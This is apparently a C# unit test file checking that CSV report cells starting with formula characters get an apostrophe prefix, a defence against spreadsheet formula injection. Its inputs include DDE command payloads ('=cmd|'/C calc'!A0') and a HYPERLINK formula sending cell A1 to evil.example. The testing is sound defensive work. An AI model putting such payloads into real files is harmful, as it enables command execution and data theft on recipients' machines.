using System.Globalization;
using CsvHelper;
using Provisioning.Core.Tests.Sync.Report;
using Provisioning.Sync.Report;
using Provisioning.Sync.Run.Journal;
using Provisioning.Tabular;

namespace Provisioning.Core.Tests.Tabular;

/// <summary>What a spreadsheet would run when it opens a CSV file, and what it would not.</summary>
public sealed class SpreadsheetCellsTests : ReportTest
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1-555-0100")]
    [InlineData("-5")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("\tplain")]
    [InlineData("  =1")]
    [InlineData("\u00A0=1")]
    [InlineData("\u200B=1")]
    [InlineData("\"=1\"")]
    [InlineData("\" \"=1")]
    [InlineData("=cmd|'/C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|'/C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")")]
    [InlineData("＝1")]
    public void Formulas_are_prefixed_with_an_apostrophe(string cell)
    {
        SpreadsheetCells cells = new();

        Assert.Equal("'" + cell, cells.Neutralise(cell));
        Assert.Equal("'" + cell, cells.Neutralise("'" + cell));
        Assert.Equal(1, cells.Changed);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("  ")]
    [InlineData("Lee-Ann = +1")]
    [InlineData("a@b.example")]
    [InlineData("O'Hara")]
    [InlineData("5")]
    [InlineData("\"Dr.\" =x")]
    public void Other_cells_are_unchanged(string? cell)
    {
        SpreadsheetCells cells = new();

        Assert.Equal(cell, cells.Neutralise(cell));
        Assert.Equal(0, cells.Changed);
    }

    [Fact]
    public void Report_is_exact_unless_safe_cells_are_requested()
    {
        RunReport report = Carry(Plan(2, n => n == 1 ? "=cmd|'/C calc'!A0" : "a,\"=1\"\r\n=2"), s => Outcome(s.Number, message: "+1"), ending: RunEnding.Done);
        int changed = -1;

        string exact = Text(s => Assert.Equal(0, report.WriteCsv(s)));
        string safe = Text(s => changed = report.WriteCsv(s, safeForSpreadsheet: true));

        string[][] before = Cells(exact);
        string[][] after = Cells(safe);
        Assert.Equal(before.Select(r => r.Select(c => c.StartsWith('=') || c.StartsWith('+') ? "'" + c : c)), after);
        Assert.Equal(before.Sum(r => r.Count(c => c.StartsWith('=') || c.StartsWith('+'))), changed);
        Assert.True(changed > 2);
    }

    private static string[][] Cells(string text)
    {
        using CsvParser parser = new(new StringReader(text.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        return Enumerable.Range(0, int.MaxValue).TakeWhile(_ => parser.Read()).Select(_ => parser.Record!).ToArray();
    }
}
